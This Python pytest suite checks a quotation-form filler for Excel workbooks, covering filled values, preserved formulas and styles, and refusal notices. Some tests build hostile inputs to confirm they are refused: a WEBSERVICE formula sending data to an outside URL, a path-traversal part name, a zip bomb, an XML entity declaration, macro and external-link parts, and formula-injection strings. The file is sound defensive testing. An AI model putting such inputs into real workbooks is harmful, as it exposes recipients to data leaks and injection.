"""A company's form is filled without losing anything, or refused with the reason."""

import hashlib
import io
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import cast

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet
from tests.documents import office, samples
from tests.documents.forms import DETAIL, FRONT, NAMES, Form, form

from kis_estimator.documents import form as filling
from kis_estimator.documents.form import fill_form
from kis_estimator.documents.form.fields import TABLES, fields
from kis_estimator.documents.ooxml.splice import edit_sheet
from kis_estimator.documents.recalculation import check_workbook
from kis_estimator.documents.sheet import Quotation, build_quotation
from kis_estimator.engine.model import Customer, PricingTerms
from kis_estimator.errors import KisError

ROOT = Path(__file__).parents[2]


def quotation(**changes: object) -> Quotation:
    return replace(samples.ordinary(), **changes)  # type: ignore[arg-type]


def refused(template: bytes, quoted: Quotation | None = None) -> dict[str, list[dict[str, object]]]:
    with pytest.raises(KisError) as caught:
        fill_form(template, quoted or quotation())
    found: dict[str, list[dict[str, object]]] = {}
    for notice in caught.value.notices:
        assert notice.message("ko-KR")
        assert notice.message("en-US")
        found.setdefault(notice.code, []).append(dict(notice.params))
    return found


def sheet_of(data: bytes, title: str, *, values: bool = True) -> Worksheet:
    return cast("Worksheet", load_workbook(io.BytesIO(data), data_only=values)[title])


@pytest.fixture(scope="module")
def filled() -> bytes:
    return fill_form(form(), quotation()).data


def test_single_figures_are_filled_in(filled: bytes) -> None:
    front = sheet_of(filled, FRONT)
    quoted = quotation()
    assert front["B3"].value == quoted.number
    assert front["B4"].value == quoted.date_text
    assert front["E4"].value == (date(2025, 11, 24) - date(1899, 12, 30)).days
    assert front["B5"].value == "주식회사 한빛전기"
    assert front["B6"].value == quoted.project
    assert front["B7"].value == "일금 삼백칠십오만사천삼백원정"
    assert str(front["A8"].value).startswith("견본 단가(SAMPLE)")


def test_tables_are_filled_and_left_over_rows_emptied(filled: bytes) -> None:
    rows = list(
        sheet_of(filled, FRONT).iter_rows(min_row=11, max_row=16, max_col=6, values_only=True)
    )
    panels = quotation().panels
    assert [row[:2] for row in rows[:3]] == [(p.number, p.name) for p in panels]
    assert [row[3:] for row in rows[:3]] == [(p.quantity, p.unit_price, p.amount) for p in panels]
    assert [row[1] for row in rows[3:]] == [None] * 3

    lines = sheet_of(filled, DETAIL)
    named = [row for row in lines.iter_rows(min_row=3, max_row=82, values_only=True) if row[1]]
    amounts = [row[6] for row in named if isinstance(row[6], int | float)]
    assert sum(amounts) == quotation().totals.lines_sum == lines["G83"].value
    assert [row[1] for row in named if row[4] is None] == [panel.title for panel in panels]
    assert [row[:6] for row in named if row[1] == "L-2 동일 반 추가"] == [
        (None, "L-2 동일 반 추가", None, "면", 2, panels[1].unit_price)
    ]


def test_formulas_stay_and_carry_our_figures(filled: bytes) -> None:
    front, kept = sheet_of(filled, FRONT), sheet_of(filled, FRONT, values=False)
    totals = quotation().totals
    stored = [front.cell(row, 6).value for row in range(17, 23)]
    assert stored == [
        totals.lines_sum, -totals.discount, -totals.rounding,
        totals.supply, totals.vat, totals.total,
    ]  # fmt: skip
    assert kept["F22"].value == "=KIS_Supply+KIS_VAT"
    assert kept["F11"].value == '=IF(D11="","",D11*E11)'
    assert front["B24"].value == "예"


def test_every_part_but_cells_and_calculation_is_the_same_to_the_byte(filled: bytes) -> None:
    before, after = office.parts_of(form()), office.parts_of(filled)
    assert list(before) == list(after)
    changed = {name for name in before if before[name] != after[name]}
    sheets = {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}
    assert changed == sheets
    kinds = (b"<drawing", b"<dataValidation ", b"<cfRule", b"<mergeCell ", b"<pageSetup", b"<brk ")
    for name in sheets:
        outside = [re.sub(rb"<sheetData>.*</sheetData>", b"", p[name]) for p in (before, after)]
        assert outside[0] == outside[1]
    front = after["xl/worksheets/sheet1.xml"]
    assert [front.count(kind) for kind in kinds] == [1, 1, 1, 6, 1, 1]
    drawing = after["xl/drawings/drawing1.xml"].decode()
    assert "㈜한빛전기" in drawing
    assert "<xdr:pic>" in drawing
    assert after["xl/workbook.xml"].count(b"<definedName ") == before["xl/workbook.xml"].count(
        b"<definedName "
    )


def test_styles_of_cells_stay(filled: bytes) -> None:
    template, after = sheet_of(form(), FRONT), sheet_of(filled, FRONT)
    for where in ("B3", "D11", "F20"):
        assert after[where].has_style
        assert cast("Cell", after[where]).style_id == cast("Cell", template[where]).style_id
    # a cell that was not there gets the style of its column
    assert sheet_of(filled, DETAIL)["A4"].number_format == "#,##0.00"


def test_the_format_check_passes_and_fails(filled: bytes) -> None:
    written = fill_form(form(), quotation())
    report = check_workbook(written.data, written.contents, quotation().date)
    assert report.problems == report.unverified == ()
    assert report.formulas > 80
    spoiled = office.edited(
        written.data,
        lambda name, part: (
            part.replace(b"<f>KIS_Supply+KIS_VAT</f>", b"") if name.endswith("sheet1.xml") else part
        ),
    )
    assert check_workbook(spoiled, written.contents).formula_loss == 1
    assert written.data == filled


def test_libreoffice_arrives_at_our_totals(
    filled: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    data = office.forget_stored_values(filled)
    saved = office.recalculate({"form": data}, tmp_path_factory.mktemp("form"))["form"]
    totals = quotation().totals
    front = sheet_of(saved, FRONT)
    assert front["F22"].value == totals.total
    assert [front.cell(row, 6).value for row in range(11, 14)] == [
        panel.amount for panel in quotation().panels
    ]
    assert sheet_of(saved, DETAIL)["G83"].value == totals.lines_sum
    assert front["B3"].value == quotation().number


def test_user_text_stays_text() -> None:
    result = samples.result(samples.small("=1+1"), customer=Customer(name="@SUM(A1) _x0041_"))
    data = fill_form(form(), build_quotation(result, samples.header())).data
    kept = sheet_of(data, FRONT, values=False)
    assert (kept["B11"].value, kept["B11"].data_type) == ("=1+1", "s")
    assert b"@SUM(A1) _x005F_x0041_" in office.parts_of(data)["xl/worksheets/sheet1.xml"]


def test_names_that_are_missing_or_unknown_are_listed() -> None:
    shape = Form(names={"KIS_Total": None, "KIS_Date": None, "KIS_DateValue": None,
                        "KIS_Line_Amount": None, "KIS_Totl": f"={FRONT}!$A$1"})  # fmt: skip
    assert refused(form(shape)) == {
        "FORM_NAMES_UNKNOWN": [{"names": ["KIS_Totl"]}],
        "FORM_NAMES_MISSING": [{"names": ["KIS_Total", "KIS_Date", "KIS_Line_Amount"]}],
    }


@pytest.mark.parametrize(
    ("name", "changes"),
    [
        ("KIS_Mark", {}),
        ("KIS_Discount", {}),
        ("KIS_Rounding", {}),
        ("KIS_Exclusions", {"exclusions": ("접지봉",)}),
    ],
)
def test_what_must_not_go_unsaid_needs_its_name(name: str, changes: dict[str, object]) -> None:
    template = form(Form(names={name: None}, sums={"KIS_Supply": "", "KIS_LinesSum": ""}))
    assert refused(template, quotation(**changes)) == {"FORM_NAMES_MISSING": [{"names": [name]}]}
    plain = samples.result(samples.small(), sample=False)
    assert fill_form(template, build_quotation(plain, samples.header())).data


def test_a_form_needs_one_of_the_tables() -> None:
    takeout: dict[str, str | None] = dict.fromkeys(("KIS_PanelLines", *TABLES["KIS_PanelLines"]))
    template = form(Form(names=takeout, sums={"KIS_LinesSum": ""}))
    assert fill_form(template, quotation()).data
    takeout |= dict.fromkeys(("KIS_Lines", *TABLES["KIS_Lines"]))
    found = refused(form(Form(names=takeout)))
    assert found == {"FORM_NAMES_MISSING": [{"names": ["KIS_Lines | KIS_PanelLines"]}]}


def test_too_few_rows_say_how_many_are_needed() -> None:
    found = refused(form(Form(panels=2, lines=20)))
    rows = {str(params["name"]): params for params in found.pop("FORM_ROWS")}
    assert not found
    assert rows["KIS_PanelLines"] == {"name": "KIS_PanelLines", "room": 2, "needed": 3}
    lines = sum(len(g.rows) for p in quotation().panels for g in p.groups) + 3 + 1
    assert rows["KIS_Lines"] == {"name": "KIS_Lines", "room": 20, "needed": lines}


@pytest.mark.parametrize(
    "target", ["=#REF!", f"={FRONT}!$A$1,{FRONT}!$C$1", "=SUM(1,2)", "=없는시트!$A$1"]
)
def test_a_name_that_points_to_no_cell(target: str) -> None:
    template = office.edited(
        form(Form(names={"KIS_Contact": f"={FRONT}!$G$3"})),
        lambda name, part: (
            part.replace(f"{FRONT}!$G$3".encode(), target[1:].encode())
            if name == "xl/workbook.xml"
            else part
        ),
    )
    (params,) = refused(template)["FORM_NAME_TARGET"]
    assert params["name"] == "KIS_Contact"


def test_a_cell_under_a_merged_area_is_refused() -> None:
    found = refused(form(Form(merged="B11:C12")))
    cells = {str(params["target"]) for params in found["FORM_NAME_TARGET"]}
    assert cells == {f"{FRONT}!C11", f"{FRONT}!B12", f"{FRONT}!C12"}


def test_two_names_on_one_cell_are_refused() -> None:
    found = refused(form(Form(names={"KIS_PanelCount": f"={FRONT}!{NAMES['KIS_Number']}"})))
    assert found["FORM_NAMES_SHARED"][0]["names"] == ["KIS_Number", "KIS_PanelCount"]


def test_a_formula_of_the_form_has_to_arrive_at_our_figure() -> None:
    found = refused(form(Form(sums={"KIS_VAT": "=INT(KIS_Supply*11/100)"})))
    totals = quotation().totals
    vat = totals.supply * 11 // 100
    assert sorted(found["FORM_FORMULA_DIFFERS"], key=lambda params: str(params["cell"])) == [
        {"name": "KIS_VAT", "cell": "F21", "expected": totals.vat, "found": vat},
        {
            "name": "KIS_Total",
            "cell": "F22",
            "expected": totals.total,
            "found": totals.supply + vat,
        },
    ]


def test_what_only_excel_calculates_keeps_no_stale_value() -> None:
    template = form(Form(extra_formula='=TEXT(KIS_Total,"[DBNum4]")'))
    written = fill_form(template, quotation())
    assert sheet_of(written.data, FRONT)["B24"].value is None
    assert str(sheet_of(written.data, FRONT, values=False)["B24"].value).startswith("=TEXT(")
    report = check_workbook(written.data, written.contents)
    assert report.problems == ()
    assert [notice.params["cell"] for notice in report.unverified] == ["B24"]


def with_part(name: str, content: bytes = b"x") -> Callable[[bytes], bytes]:
    return lambda data: office.packed(office.parts_of(data) | {name: content})


def with_text(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda data: office.edited(data, lambda _, part: part.replace(old, new))


MACRO = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@pytest.mark.parametrize(
    ("spoil", "item"),
    [
        (with_part("xl/vbaProject.bin"), "xl/vbaProject.bin"),
        (with_part("xl/externalLinks/externalLink1.xml"), "xl/externalLinks/externalLink1.xml"),
        (with_part("xl/connections.xml"), "xl/connections.xml"),
        (with_part("xl/embeddings/oleObject1.bin"), "xl/embeddings/oleObject1.bin"),
        (with_part("_xmlsignatures/sig1.xml"), "_xmlsignatures/sig1.xml"),
        (with_text(PLAIN, MACRO), "macroEnabled"),
        (
            lambda _: form(Form(link="external:other.xlsx")),
            "xl/worksheets/_rels/sheet1.xml.rels: other.xlsx",
        ),
        (lambda _: form(Form(extra_formula='=WEBSERVICE("http://x/"&KIS_Total)')), "B24"),
        (lambda _: form(Form(extra_formula="='[other.xlsx]Sheet1'!A1")), "B24"),
        (lambda _: form(Form(extra_formula="=[other.xlsx]Sheet1!A1+1")), "B24"),
        (lambda _: form(Form(extra_formula="=[1]Sheet1!A1")), "B24"),
    ],
)
def test_what_must_not_reach_a_customer_is_refused(
    spoil: Callable[[bytes], bytes], item: str
) -> None:
    (params,) = refused(spoil(form()))["FORM_UNSAFE"]
    assert any(item in found for found in cast("list[str]", params["items"]))


@pytest.mark.parametrize(
    ("spoil", "code"),
    [
        (lambda _: b"", "NOT_A_WORKBOOK"),
        (lambda _: b"PK\x03\x04", "NOT_A_WORKBOOK"),
        (lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "NOT_A_WORKBOOK"),
        (
            lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            "WORKBOOK_ENCRYPTED",
        ),
        (with_part("../evil.xml"), "NOT_A_WORKBOOK"),
        (with_part("XL/workbook.xml"), "NOT_A_WORKBOOK"),
        (with_part("xl/media/big.png", b"\0" * 70_000_000), "ZIP_BOMB"),
        (
            with_text(b"<worksheet ", b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet '),
            "WORKBOOK_BROKEN",
        ),
        (
            lambda data: office.edited(
                data, lambda name, part: part[:500] if name.endswith("sheet1.xml") else part
            ),
            "WORKBOOK_BROKEN",
        ),
        (with_text(b'r="A1"', b'r="C1"'), "WORKBOOK_BROKEN"),
        (
            with_text(
                b"</sheetData>",
                b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>',
            ),
            "CELL_OUT_OF_RANGE",
        ),
    ],
)
def test_hostile_files_are_refused(spoil: Callable[[bytes], bytes], code: str) -> None:
    assert list(refused(spoil(form()))) == [code]


def test_a_form_that_would_lose_something_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    def lossy(*args: object) -> bytes:
        return re.sub(rb"<dataValidations.*</dataValidations>", b"", edit_sheet(*args))  # type: ignore[arg-type]

    monkeypatch.setattr(filling, "edit_sheet", lossy)
    (params,) = refused(form())["FORM_LOSS"]
    items = cast("list[str]", params["items"])
    assert f"{FRONT}: dataValidation: 1 → –" in items


def test_rows_and_cells_that_are_not_there_yet_are_made() -> None:
    """Rows without cells, rows in short form, and a prefix on every element."""

    def bare(name: str, part: bytes) -> bytes:
        if not name.endswith("sheet2.xml"):
            return part
        part = re.sub(rb'<c r="G([3-9])".*?</c>', b"", part)
        part = re.sub(rb"<row ([^>]*)></row>", rb"<row \1/>", part)
        part = re.sub(rb'<row r="5"[^>]*/>', b"", part)
        return re.sub(rb"<(/?)(\w+)", rb"<\1x:\2", part).replace(b"xmlns=", b"xmlns:x=")

    data = fill_form(office.edited(form(), bare), quotation()).data
    sheet = sheet_of(data, DETAIL)
    assert sheet["B3"].value == quotation().panels[0].title
    assert [sheet.cell(row, 7).value for row in (4, 5)] == [
        row.amount for group in quotation().panels[0].groups[:2] for row in group.rows
    ]
    assert sheet["G83"].value == quotation().totals.lines_sum


def test_a_sheet_without_rows_is_filled() -> None:
    def empty(name: str, part: bytes) -> bytes:
        if name.endswith("sheet2.xml"):
            part = re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData/>", part)
        return part

    sheet = sheet_of(fill_form(office.edited(form(), empty), quotation()).data, DETAIL)
    assert sheet["G4"].value == quotation().panels[0].groups[0].rows[0].amount


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        (b"", b'<calcPr fullCalcOnLoad="1"/>'),
        (b'<calcPr calcId="1"/>', b'<calcPr calcId="1" fullCalcOnLoad="1"/>'),
        (
            b'<calcPr fullCalcOnLoad="0" calcMode="manual"></calcPr>',
            b'<calcPr calcMode="manual" fullCalcOnLoad="1"/>',
        ),
    ],
)
def test_the_book_is_calculated_when_it_is_opened(settings: bytes, expected: bytes) -> None:
    template = office.edited(form(), lambda _, part: re.sub(rb"<calcPr[^>]*/>", settings, part))
    book = office.parts_of(fill_form(template, quotation()).data)["xl/workbook.xml"]
    assert b"</definedNames>" + expected in book


def test_every_name_is_documented() -> None:
    text = (ROOT / "docs" / "templates.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `(KIS_\w+)`", text, re.MULTILINE))
    columns = {name for table in TABLES.values() for name in table}
    assert documented == {*fields(quotation()), *TABLES, *columns}


CHILD = """
import hashlib
from tests.documents import samples
from tests.documents.forms import form
from kis_estimator.documents.form import fill_form
print(hashlib.sha256(fill_form(form(), samples.ordinary()).data).hexdigest())
"""


def test_same_bytes_in_another_time_zone_and_hash_seed(filled: bytes) -> None:
    digests = {hashlib.sha256(filled).hexdigest()}
    for zone, seed in (("Asia/Seoul", "1"), ("America/New_York", "2")):
        env = os.environ | {
            "TZ": zone, "PYTHONHASHSEED": seed, "LC_ALL": "C",
            "PYTHONPATH": f"{ROOT / 'src'}{os.pathsep}{ROOT}",
        }  # fmt: skip
        run = subprocess.run(
            [sys.executable, "-c", CHILD], env=env, check=True, capture_output=True, text=True
        )
        digests.add(run.stdout.strip())
    assert len(digests) == 1


def test_discount_free_quotation_on_a_form_with_a_discount_line() -> None:
    result = samples.result(samples.small(), pricing=PricingTerms(discount_pct=Decimal(0)))
    front = sheet_of(fill_form(form(), build_quotation(result, samples.header())).data, FRONT)
    assert [front.cell(row, 6).value for row in (18, 19)] == [0, 0]
